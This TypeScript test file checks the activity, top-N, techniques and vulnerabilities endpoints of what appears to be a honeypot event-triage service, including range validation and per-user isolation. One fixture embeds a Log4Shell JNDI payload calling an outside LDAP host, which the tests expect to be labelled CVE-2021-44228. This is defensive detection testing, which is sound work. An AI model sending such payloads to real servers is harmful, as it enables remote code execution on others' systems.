import assert from 'node:assert/strict';
import { describe, it, type TestContext } from 'node:test';
import { openScene } from '../support/triage.ts';

interface Bucket {
  start: string;
  events: number;
  counts: Record<string, number>;
}
interface Top {
  items: { name: string; events: number }[];
  missed: number;
}

const day = '2026-11-20';
const at = (hour: number, minute = 0): string =>
  `${day}T${String(hour).padStart(2, '0')}:${String(minute).padStart(2, '0')}:00.000Z`;

/** Six events of three sources at three hours; two try a vulnerability with a name. */
async function open(t: TestContext) {
  const scene = await openScene(t);
  const shell = 'GET /?x=${jndi:ldap://198.51.100.9/a} HTTP/1.1\r\nHost: a\r\n\r\n';
  const event = { service: 'ssh', source_ip: '9.9.9.9', activity: 'login failed', payload: 'root:1' };
  const web = { ...event, service: 'http', activity: 'http request', payload: shell };
  const body = [
    { ...event, timestamp: at(8, 1) },
    { ...event, timestamp: at(8, 59) },
    { ...event, source_ip: '10.0.0.7', timestamp: at(9) },
    { ...event, timestamp: at(9, 1) },
    { ...web, source_ip: '203.0.113.80', timestamp: at(11) },
    { ...web, source_ip: '203.0.113.81', timestamp: at(11, 30) },
  ];
  await scene.api.call('POST', '/api/events', { headers: scene.node.headers, body });
  return scene;
}
const range = `from=${at(8)}&to=${at(11, 59)}`;

describe('GET /api/activity', () => {
  it('counts by the hour or day, without gaps, by what is asked for', async (t) => {
    const { as, node } = await open(t);
    const asked = async (query: string): Promise<Bucket[]> =>
      (await as<{ buckets: Bucket[] }>('GET', `/api/activity?${range}&${query}`)).body.buckets;
    const byService = await asked('by=service');
    assert.deepEqual(
      byService.map(({ start, events, counts }) => [start, events, counts]),
      [
        [at(8), 2, { ssh: 2 }],
        [at(9), 2, { ssh: 2 }],
        [at(10), 0, {}],
        [at(11), 2, { http: 2 }],
      ],
    );
    assert.deepEqual((await asked('by=node'))[0]?.counts, { [node.id]: 2 });
    assert.deepEqual((await asked('by=country'))[0]?.counts, { US: 2 });
    const [whole] = await asked('by=exposure&bucket=day');
    assert.equal(whole?.events, 6);
    assert.equal(
      Object.values(whole?.counts ?? {}).reduce((a, b) => a + b, 0),
      6,
    );
    const { body } = await as<{ buckets: Bucket[] }>('GET', '/api/activity');
    assert.ok([24, 25].includes(body.buckets.length));
  });

  it('refuses ranges that are turned round or too long', async (t) => {
    const { as } = await openScene(t);
    assert.equal((await as('GET', `/api/activity?from=${at(9)}&to=${at(8)}`)).status, 400);
    assert.equal((await as('GET', `/api/activity?from=2020-01-01&to=${at(8)}`)).status, 400);
    assert.equal((await as('GET', '/api/activity?by=password')).status, 422);
  });
});

describe('what was most frequent', () => {
  it('is counted by source, service and country, and agrees with the events', async (t) => {
    const { as } = await open(t);
    const top = async (of: string): Promise<Top> => (await as<Top>('GET', `/api/top?${range}&of=${of}`)).body;
    assert.deepEqual((await top('source')).items, [
      { name: '9.9.9.9', events: 3 },
      { name: '10.0.0.7', events: 1 },
      { name: '203.0.113.80', events: 1 },
      { name: '203.0.113.81', events: 1 },
    ]);
    assert.equal((await top('source')).missed, 0);
    assert.deepEqual((await top('service')).items, [
      { name: 'ssh', events: 4 },
      { name: 'http', events: 2 },
    ]);
    assert.deepEqual((await top('country')).items, [{ name: 'US', events: 3 }]);
    const none = await as<Top>('GET', '/api/top?from=2026-01-01&to=2026-01-02');
    assert.deepEqual(none.body.items, []);
  });

  it('are the techniques and vulnerabilities that verdicts name', async (t) => {
    const { as, api } = await open(t);
    const events = await as<{ items: { verdict: { techniques: string[] } }[] }>('GET', '/api/events');
    const expected = new Map<string, number>();
    for (const { verdict } of events.body.items)
      for (const id of verdict.techniques) expected.set(id, (expected.get(id) ?? 0) + 1);
    const seen = await as<{ items: { technique: string; events: number }[] }>(
      'GET',
      `/api/techniques?${range}`,
    );
    assert.deepEqual(new Map(seen.body.items.map((one) => [one.technique, one.events])), expected);
    const { body } = await as<{ items: object[] }>('GET', '/api/vulnerabilities');
    const [one] = body.items as { id: string; title: string; product: string }[];
    assert.deepEqual(body.items, [
      {
        ...{ id: 'CVE-2021-44228', title: one?.title, product: one?.product, events: 2 },
        ...{ first_seen: at(11), last_seen: at(11, 30), sources: 2 },
      },
    ]);
    assert.ok(one?.title && one.product);
    const stranger = await api.createUser();
    for (const path of ['/api/vulnerabilities', `/api/top?${range}`, `/api/techniques?${range}`]) {
      const foreign = await api.call<{ items: object[] }>('GET', path, { headers: stranger.headers });
      assert.deepEqual(foreign.body.items, [], path);
    }
  });
});
